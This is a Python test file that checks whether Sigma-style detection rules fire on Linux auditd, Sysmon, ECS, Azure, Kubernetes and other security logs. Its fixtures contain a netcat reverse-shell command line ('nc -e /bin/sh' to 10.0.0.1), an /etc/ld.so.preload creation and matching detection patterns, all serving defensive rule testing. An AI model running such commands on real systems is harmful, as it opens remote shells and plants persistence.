"""Rules for what is not Windows, on native events read from files: some that match and some that do not."""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import orjson
import pytest

pytest.importorskip("sigma.backends.sqlite", reason="needs the extra `rules`")
pytest.importorskip("duckdb")

from logfm.configs.schema.rules import RulesConfig
from logfm.corpus import stream
from logfm.corpus.rules import NEEDED, compile_rules, fired
from logfm.corpus.rules.documents import Document

EXEC = [
    "type=SYSCALL msg=audit(1604996384.965:7): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 ppid=2 pid=3 "
    'uid=1000 comm="nc" exe="/bin/nc" key=(null)',
    'type=EXECVE msg=audit(1604996384.965:7): argc=4 a0="nc" a1="-e" a2=2F62696E2F7368 a3="10.0.0.1"',
    'type=CWD msg=audit(1604996384.965:7): cwd="/home/bob"',
    'type=PATH msg=audit(1604996384.965:7): item=0 name="/bin/nc" nametype=NORMAL',
    'type=PATH msg=audit(1604996384.965:7): item=1 name="/lib64/ld-linux-x86-64.so.2" nametype=NORMAL',
]
FAILED = [line.replace(":7)", ":8)").replace("success=yes", "success=no") for line in EXEC]
OPEN = [
    'type=SYSCALL msg=audit(1604996385.1:9): arch=c00000b7 syscall=56 success=yes uid=0 comm="sh" exe="/bin/sh"',
    'type=CWD msg=audit(1604996385.1:9): cwd="/etc"',
    'type=PATH msg=audit(1604996385.1:9): item=0 name="/etc/" nametype=PARENT',
    'type=PATH msg=audit(1604996385.1:9): item=1 name="ld.so.preload" nametype=CREATE',
]
CONNECT = [
    'type=SYSCALL msg=audit(1604996386.1:10): arch=c000003e syscall=42 success=yes uid=48 exe="/usr/bin/php"',
    "type=SOCKADDR msg=audit(1604996386.1:10): saddr=020001BB0A0000010000000000000000",
    'type=SYSCALL msg=audit(1604996387.1:11): arch=c000003e syscall=42 success=yes uid=48 exe="/usr/bin/php"',
    "type=SOCKADDR msg=audit(1604996387.1:11): saddr=0A0001BB00000000200104F80000000000000000000000010000",
]
AUDIT = "\n".join([*EXEC, *FAILED, *OPEN, *CONNECT])
PROCESS = {"product": "linux", "category": "process_creation"}
FILE = {"product": "linux", "category": "file_event"}
NETWORK = {"product": "linux", "category": "network_connection"}
AUDITD = {"product": "linux", "service": "auditd"}


def rows(*records: Mapping[str, Any]) -> str:
    return "".join(orjson.dumps(record).decode() + "\n" for record in records)


def found(
    tmp_path: Path, content: str, logsource: Mapping[str, str], item: Any, config: RulesConfig | None = None
) -> list[int]:
    """The numbers of a file's events on which a rule of one item fires, each as often as it fires."""
    rule = {
        "title": "a rule",
        "id": "00000000-0000-4000-8000-000000000001",
        "level": "low",
        "logsource": dict(logsource),
    }
    rules = compile_rules([Document("r.yml", {**rule, "detection": {"a": item, "condition": "a"}}, None)])
    assert rules.unsupported == []
    path = tmp_path / "events.log"
    path.write_text(content)
    batches = list(stream([path], list(NEEDED)))
    order = [event_id for batch in batches for event_id in batch["event_id"].to_pylist()]
    hits = [event_id for batch in fired(batches, rules, config) for event_id in batch["event_id"].to_pylist()]
    return sorted(order.index(event_id) for event_id in hits)


@pytest.mark.parametrize(
    ("logsource", "item", "expected"),
    [
        (AUDITD, {"type": "EXECVE", "a1": "-e", "a2": "/bin/sh"}, [0, 1]),
        (AUDITD, {"type": "SYSCALL", "SYSCALL": "execve", "a0": 55}, [0, 1]),
        (AUDITD, {"type": "SYSCALL", "a1": "-e"}, []),
        (AUDITD, {"type": "PATH", "nametype": "CREATE", "name": "ld.so.preload"}, [2]),
        (AUDITD, {"type": "PATH", "name|startswith": "/"}, [0, 1, 2]),
        (AUDITD, ["nc -e /bin/sh"], [0, 1]),
        (PROCESS, {"Image|endswith": "/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1"}, [0]),
        (PROCESS, {"CurrentDirectory": "/home/bob", "User": 1000}, [0]),
        (PROCESS, {"Image|endswith": "/php"}, []),
        (FILE, {"TargetFilename": "/etc/ld.so.preload", "Image": "/bin/sh"}, [2]),
        (FILE, {"TargetFilename|startswith": "/lib64"}, []),
        (NETWORK, {"DestinationIp|cidr": "10.0.0.0/8", "DestinationPort": 443, "Initiated": "true"}, [3]),
        (NETWORK, {"DestinationIp": "2001:4f8::1"}, [4]),
    ],
)
def test_audit_records_alone_and_together(tmp_path, logsource, item, expected):
    assert found(tmp_path, AUDIT, logsource, item) == expected


def test_arguments_over_several_records_and_pieces_make_one_command_line(tmp_path):
    lines = [
        EXEC[0],
        'type=EXECVE msg=audit(1604996384.965:7): argc=4 a0="sh" a1_len=8 a1[0]=2D2D a1[1]=6C6F',
        'type=EXECVE msg=audit(1604996384.965:7): a2="two" a3="three"',
    ]
    assert found(tmp_path, "\n".join(lines), PROCESS, {"CommandLine": "sh --lo two three"}) == [0]


@pytest.mark.parametrize("settings", [{"window_rows": 1}, {"window_bytes": 1}, {"memo_rows": 0}, {"memo_rows": 1}])
def test_a_rule_counts_once_an_event_whatever_the_bounds_of_the_run(tmp_path, settings):
    again = "\n".join([*EXEC, *(line.replace(":7)", ":70)") for line in EXEC)])
    assert found(tmp_path, again, AUDITD, {"type|contains": ["a", "e"]}, RulesConfig(**settings)) == [0, 1]


def sysmon(number: int, **data: str) -> str:
    values = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    return (
        '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593}"/>'
        f"<EventID>{number}</EventID><Channel>Linux-Sysmon/Operational</Channel></System><EventData>{values}</EventData>"
    )


@pytest.mark.parametrize("wrapped", [False, True], ids=["syslog", "collector's JSON"])
def test_sysmon_for_linux_also_where_the_transport_cut_it(tmp_path, wrapped):
    messages = [
        sysmon(1, Image="/usr/bin/curl", CommandLine="curl a &amp;&amp; b") + "</Event>",
        sysmon(1, Image="/usr/bin/curl", CommandLine="curl a &amp;&amp; b") + '<Data Name="ParentCommandLine">java -cl',
        sysmon(3, Image="/usr/bin/curl", DestinationIp="10.0.0.1") + "</Event>",
        sysmon(5, Image="/usr/bin/curl") + "</Event>",
        sysmon(11, Image="/usr/bin/curl", TargetFilename="/etc/cron.d/x") + "</Event>",
    ]
    lines = [f"May 11 18:10:20 host sysmon[12]: {message}\n" for message in messages]
    content = rows(*({"Computer": "h", "SyslogMessage": one} for one in messages)) if wrapped else "".join(lines)
    assert found(tmp_path, content, PROCESS, {"Image|endswith": "/curl", "CommandLine": "curl a && b"}) == [0, 1]
    assert found(tmp_path, content, NETWORK, {"Image|endswith": "/curl"}) == [2]
    assert found(tmp_path, content, FILE, {"TargetFilename|startswith": "/etc/cron.d/"}) == [4]


def ecs(system: str, category: str, kind: str, /, **more: Any) -> dict[str, Any]:
    return {
        "@timestamp": "2024-01-01T00:00:00Z",
        "event": {"category": [category], "type": [kind]},
        "host": {"name": "h", "os": {"type": system}},
        "process": {"executable": "/bin/sh", "args": ["sh", "-c", "id"], "parent": {"executable": "/bin/zsh"}},
        **more,
    }


def test_elastic_common_schema(tmp_path):
    content = rows(
        ecs("linux", "process", "start"),
        ecs("macos", "process", "start"),
        ecs("linux", "process", "end"),
        ecs("windows", "process", "start"),
        ecs("macos", "file", "creation", file={"path": "/Library/LaunchDaemons/x.plist"}),
        ecs("linux", "network", "start", destination={"ip": "10.0.0.1", "port": 22}, network={"direction": "egress"}),
    )
    shell = {"Image|endswith": "/sh", "CommandLine": "sh -c id", "ParentImage": "/bin/zsh"}
    assert found(tmp_path, content, PROCESS, shell) == [0]
    assert found(tmp_path, content, {**PROCESS, "product": "macos"}, shell) == [1]
    assert found(tmp_path, content, {**FILE, "product": "macos"}, {"TargetFilename|endswith": ".plist"}) == [4]
    assert found(tmp_path, content, NETWORK, {"DestinationPort": 22, "Initiated": "true"}) == [5]


def test_falcon(tmp_path):
    head = {"aid": "a", "timestamp": "1700000000000"}
    process = {"ImageFileName": "/usr/bin/osascript", "CommandLine": "osascript -e x"}
    content = rows(
        {**head, "event_simpleName": "ProcessRollup2", "event_platform": "Mac", **process},
        {**head, "event_simpleName": "ProcessRollup2", "event_platform": "Win", **process},
        {**head, "event_simpleName": "EndOfProcess", "event_platform": "Mac", **process},
        {**head, "event_simpleName": "DnsRequest", "event_platform": "Win", "DomainName": "evil.example"},
    )
    assert found(tmp_path, content, {**PROCESS, "product": "macos"}, {"CommandLine|contains": "-e"}) == [0]
    assert found(tmp_path, content, {"category": "dns"}, {"query": "evil.example"}) == [3]


def entra(category: str, /, **properties: Any) -> dict[str, Any]:
    head = {"time": "2024-01-01T00:00:00Z", "resourceId": "/tenants/t/providers/Microsoft.aadiam", "category": category}
    return {**head, "operationName": "an operation", "properties": properties}


AZURE = {"product": "azure"}
PROPERTY = {"displayName": "ConsentContext.IsAdminConsent", "oldValue": None, "newValue": '"False"'}


def test_entra_audit(tmp_path):
    audit = {
        "category": "UserManagement",
        "activityDisplayName": "Update user",
        "activityDateTime": "2024-01-01T00:00:00Z",
        "loggedByService": "Core Directory",
        "result": "success",
        "targetResources": [{"type": "User", "modifiedProperties": [PROPERTY]}, {"type": "Group"}],
        "additionalDetails": [{"key": "AdditionalInfo", "value": "a detail"}],
    }
    content = rows(
        entra("AuditLogs", **audit),
        audit,
        entra("AuditLogs", **{**audit, "category": "Policy", "targetResources": [], "additionalDetails": []}),
        {**audit, "category": "Policy", "result": "failure", "targetResources": None, "additionalDetails": None},
        entra("SignInLogs", **audit),
    )
    source = {**AZURE, "service": "auditlogs"}
    assert found(tmp_path, content, source, {"Category": "usermanagement", "LoggedByService": "Core Directory"}) == [
        0,
        1,
    ]
    assert found(tmp_path, content, source, {"properties.message": "Update user", "Status": "Success"}) == [0, 1, 2]
    assert found(tmp_path, content, source, {"ConsentContext.IsAdminConsent": "false"}) == [0, 1]
    assert found(tmp_path, content, source, {"TargetResources.modifiedProperties.newValue|contains": "False"}) == [0, 1]
    assert found(tmp_path, content, source, {"additionalDetails.additionalInfo|contains": "detail"}) == [0, 1]
    assert found(tmp_path, content, source, {"category": "Policy"}) == [2, 3]


def test_entra_sign_ins(tmp_path):
    sign_in = {"createdDateTime": "2024-01-01T00:00:00Z", "userPrincipalName": "u@x", "appDisplayName": "Outlook"}
    fine, denied = {"errorCode": 0}, {"errorCode": 500121, "failureReason": "no", "additionalDetails": "MFA denied"}
    content = rows(
        {**sign_in, "status": fine, "deviceDetail": {"deviceId": ""}, "networkLocationDetails": []},
        {**sign_in, "status": denied, "authenticationProtocol": "deviceCode"},
        {**entra("SignInLogs", **sign_in, status=denied), "resultType": "500121", "resultDescription": "a reason"},
        {**entra("NonInteractiveUserSignInLogs", **sign_in, status=fine), "resultType": "0"},
        entra("AuditLogs", **sign_in, status=fine),
    )
    source = {**AZURE, "service": "signinlogs"}
    assert found(tmp_path, content, source, {"Status": "Success", "ResultType": 0}) == [0, 3]
    assert found(tmp_path, content, source, {"Status|contains": "MFA Denied"}) == [1, 2]
    assert found(tmp_path, content, source, {"ResultType": 500121, "Resultdescription": "a reason"}) == [2]
    assert found(tmp_path, content, source, {"properties.message": "Device Code"}) == [1]
    assert found(tmp_path, content, source, {"DeviceDetail.deviceId": "", "NetworkLocationDetails": "[]"}) == [0]


def test_entra_risks_and_azure_activity(tmp_path):
    when = {"eventTimestamp": "2024-01-01T00:00:00Z", "authorization": {"action": "a"}, "resourceId": "/x"}
    content = rows(
        entra("UserRiskEvents", riskEventType="leakedCredentials", riskState="atRisk"),
        {"riskEventType": "leakedCredentials", "riskState": "x", "detectedDateTime": "2024-01-01T00:00:00Z"},
        entra("AuditLogs", riskType="leakedCredentials"),
        {**entra("Administrative", entity="e"), "operationName": "MICROSOFT.KEYVAULT/VAULTS/DELETE"},
        {
            **when,
            "category": {"value": "Administrative"},
            "operationName": {"value": "Microsoft.KeyVault/vaults/delete"},
        },
        {**entra("AuditEvent", entity="e"), "operationName": "Microsoft.KeyVault/vaults/delete"},
    )
    assert found(tmp_path, content, {**AZURE, "service": "riskdetection"}, {"riskEventType": "LeakedCredentials"}) == [
        0,
        1,
    ]
    activity = {**AZURE, "service": "activitylogs"}
    delete = "microsoft.keyvault/vaults/delete"
    assert found(tmp_path, content, activity, {"operationName": delete}) == [3, 4]
    assert found(tmp_path, content, activity, {"OperationNameValue": delete, "CategoryValue": "Administrative"}) == [
        3,
        4,
    ]
    assert found(tmp_path, content, activity, [delete]) == [3, 4]


def test_one_of_a_fields_values_is_enough_and_none_reaches_into_the_next(tmp_path):
    source = {"product": "kubernetes", "service": "audit"}
    head = {"apiVersion": "audit.k8s.io/v1", "auditID": "a", "requestReceivedTimestamp": "2024-01-01T00:00:00Z"}
    several = [["SYS_ADMIN", "NET_ADMIN", "7"], ["sys_admin"], "SYS_ADMIN", ["NET_RAW", "X_SYS_ADMIN_X"], [], None]
    content = rows(*({**head, "verb": "create", "add": one} for one in several))
    assert found(tmp_path, content, source, {"add": "SYS_ADMIN"}) == [0, 1, 2]
    assert found(tmp_path, content, source, {"add": "NET_ADMIN"}) == [0]
    assert found(tmp_path, content, source, {"add": 7}) == [0]
    assert found(tmp_path, content, source, {"add|startswith": "NET"}) == [0, 3]
    assert found(tmp_path, content, source, {"add|endswith": "admin"}) == [0, 1, 2]
    assert found(tmp_path, content, source, {"add|contains": "admin"}) == [0, 1, 2, 3]
    assert found(tmp_path, content, source, {"add": "N?T*A*N"}) == [0]
    assert found(tmp_path, content, source, {"add": "SYS*NET_ADMIN"}) == []
    assert found(tmp_path, content, source, {"add|cased": "sys_admin"}) == [1]
    assert found(tmp_path, content, source, {"add": ""}) == [4]


def test_google_workspace(tmp_path):
    def report(application: str, *events: Any) -> dict[str, Any]:
        place = {"time": "2024-01-01T00:00:00Z", "applicationName": application}
        return {"kind": "admin#reports#activity", "id": place, "actor": {"email": "e"}, "events": list(events)}

    off = {"name": "ENFORCE_STRONG_AUTHENTICATION", "parameters": [{"name": "NEW_VALUE", "value": "false"}]}
    on = {"name": "ENFORCE_STRONG_AUTHENTICATION", "parameters": [{"name": "NEW_VALUE", "value": "true"}]}
    entry = {"eventName": off["name"], "parameter": off["parameters"]}
    cloud = {"logName": "l", "insertId": "i", "timestamp": "2024-01-01T00:00:00Z"}
    content = rows(
        report("admin", {"name": "OTHER"}, off, off),
        report("admin", on),
        report("login", off, {"name": "suspicious_login"}),
        {**cloud, "protoPayload": {"serviceName": "admin.googleapis.com", "metadata": {"event": [entry]}}},
        {**cloud, "protoPayload": {"serviceName": "compute.googleapis.com", "metadata": {"event": [entry]}}},
    )
    admin, login = ({"product": "gcp", "service": f"google_workspace.{name}"} for name in ("admin", "login"))
    item = {"eventService": "admin.googleapis.com", "eventName": off["name"], "new_value": "false"}
    assert found(tmp_path, content, admin, item) == [0, 3]
    item = {"protoPayload.serviceName": "login.googleapis.com"}
    assert found(tmp_path, content, login, {**item, "protoPayload.metadata.event.eventName": "suspicious_login"}) == [2]


@pytest.mark.parametrize(
    ("logsource", "item", "content"),
    [
        (
            {"product": "github", "service": "audit"},
            {"action": "org.remove_member"},
            [
                {"@timestamp": 1606929874512, "action": "org.remove_member", "actor": "a", "_document_id": "d"},
                {"@timestamp": 1606929874512, "action": "org.add_member", "actor": "a", "_document_id": "e"},
            ],
        ),
        (
            {"product": "opencanary", "category": "application"},
            {"logtype": 4002},
            [
                {"logtype": number, "node_id": "n", "logdata": {}, "dst_port": 22, "utc_time": "2024-02-05 10:11:12.1"}
                for number in (4002, 4000)
            ],
        ),
        (
            {"product": "onelogin", "service": "onelogin.events"},
            {"event_type_id": 3},
            [{"event_type_id": number, "account_id": 1, "created_at": "2024-01-01T00:00:00Z"} for number in (3, 5)],
        ),
        (
            {"product": "cisco", "service": "duo"},
            {"event_type": "authentication", "reason": "bypass_user"},
            [
                {
                    "txid": "t",
                    "event_type": "authentication",
                    "reason": why,
                    "result": "success",
                    "timestamp": 1606929874,
                }
                for why in ("bypass_user", "user_approved")
            ],
        ),
        (
            {"category": "dns"},
            {"query|endswith": ".example", "record_type": "A"},
            [
                {
                    "ts": 1.6e9,
                    "uid": "C1",
                    "_path": path,
                    "query": "a.example",
                    "qtype_name": "A",
                    "id.orig_h": "10.0.0.1",
                }
                for path in ("dns", "http")
            ],
        ),
        (
            {"category": "dns"},
            {"query": "a.example", "answer|contains": "10.9"},
            [
                {
                    "timestamp": "2024-01-01T00:00:00.1+0000",
                    "event_type": "dns",
                    "src_ip": "10.0.0.1",
                    "dns": {"rrname": name, "rrtype": "A", "answers": [{"rdata": "10.9.9.9"}]},
                }
                for name in ("a.example", "b.example")
            ],
        ),
        (
            {"category": "antivirus"},
            {"Signature|contains": "Mimikatz", "Filename|contains": "Temp"},
            [
                {
                    "EventID": 1116,
                    "Channel": "Microsoft-Windows-Windows Defender/Operational",
                    "Threat Name": name,
                    "Path": r"file:_C:\Temp\x.exe",
                }
                for name in ("HackTool:Win32/Mimikatz", "EICAR")
            ],
        ),
    ],
    ids=["github", "opencanary", "onelogin", "duo", "zeek", "suricata", "defender"],
)
def test_the_first_event_matches_and_the_second_does_not(tmp_path, logsource, item, content):
    assert found(tmp_path, rows(*content), logsource, item) == [0]


def test_fortigate_and_the_debug_log_of_windows_dns(tmp_path):
    head = 'date=2024-01-01 time=11:36:13 devname="fw" devid="FGT" eventtime=1721727373453168766 logid="010000000"'
    lines = [
        f'{head} type="event" subtype="system" action="Add" cfgpath="system.admin"\n',
        f'{head} type="event" subtype="system" action="Edit" cfgpath="system.admin"\n',
        f'{head} type="traffic" subtype="forward" action="Add" cfgpath="system.admin"\n',
    ]
    item = {"action": "Add", "cfgpath": "system.admin"}
    assert found(tmp_path, "".join(lines), {"product": "fortigate", "service": "event"}, item) == [0]
    line = "3/9/2023 4:41:01 PM 1330 PACKET  0000021CB55169D0 UDP Snd ::1  cc41 R Q [8085 A DR  NOERROR] {} {}\n"
    lines = [line.format("A    ", "(4)evil(7)example(0)"), line.format("NS   ", "(4)good(7)example(0)")]
    assert found(tmp_path, "".join(lines), {"category": "dns"}, {"query": "evil.example", "record_type": "A"}) == [0]


def test_what_is_in_no_shape_is_no_trouble(tmp_path):
    odd: list[Any] = [None, 1, "x", [], [1, [2]], {}, {"a": {"b": []}}]
    content = []
    for one in odd:
        content += [
            {
                "@timestamp": "2024-01-01T00:00:00Z",
                "event": {"category": one, "type": one},
                "host": one,
                "process": one,
            },
            {**ecs("linux", "process", "start"), "process": {"args": one, "parent": one, "executable": one}},
            entra("AuditLogs", targetResources=one, additionalDetails=one, category=one),
            entra(
                "AuditLogs", targetResources=[{"modifiedProperties": one}, one], additionalDetails=[one, {"key": one}]
            ),
            entra("SignInLogs", status=one, networkLocationDetails=one, authenticationProtocol=one),
            {**entra("Administrative"), "operationName": one, "properties": one},
            {"kind": "admin#reports#activity", "id": {"time": "t", "applicationName": "admin"}, "events": one},
            {"kind": "admin#reports#activity", "id": {"time": "t", "applicationName": "login"}, "events": [one]},
            {"logName": "l", "insertId": "i", "protoPayload": {"serviceName": "admin.googleapis.com", "metadata": one}},
            {"event_simpleName": "ProcessRollup2", "event_platform": one, "CommandLine": one},
            {"TimeGenerated": "t", "Type": one, "SyslogMessage": one, "note": "Linux-Sysmon"},
        ]
    deep: Any = "x"
    for _ in range(100):
        deep = {"a": [deep]}
    content.append(entra("AuditLogs", targetResources=deep))
    for logsource in (PROCESS, {**AZURE, "service": "auditlogs"}, {**AZURE, "service": "signinlogs"}):
        assert found(tmp_path, rows(*content), logsource, {"Image|contains": "no such", "Status": "none"}) == []
    broken = ["type=SOCKADDR msg=audit(1.1:1): saddr=0200", "type=EXECVE msg=audit(1.1:2): argc=99999999 a0=zz"]
    assert found(tmp_path, "\n".join(broken), PROCESS, {"CommandLine": "zz"}) == [1]
